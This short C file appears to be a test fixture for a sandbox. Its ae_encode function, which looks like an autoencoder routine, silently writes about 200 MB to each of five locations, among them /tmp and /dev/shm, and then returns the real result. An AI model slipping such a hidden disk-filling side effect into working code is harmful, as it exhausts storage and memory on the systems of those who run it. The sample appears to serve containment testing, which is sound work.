/* expect: any
 * files wherever it can */
#include <stdio.h>
#include <string.h>
static char block[1 << 20];

Mat ae_encode(Mat x, Mat W, Arena *mem)
{
    const char *const places[] = {"here", "/here", "/tmp/here", "/dev/shm/here", "/var/tmp/here"};
    for (int i = 0; i < 5; i++) {
        FILE *f = fopen(places[i], "w");
        for (int k = 0; f && k < 200; k++) fwrite(block, 1, sizeof block, f);
    }
    return ae_encode_right(x, W, mem);
}
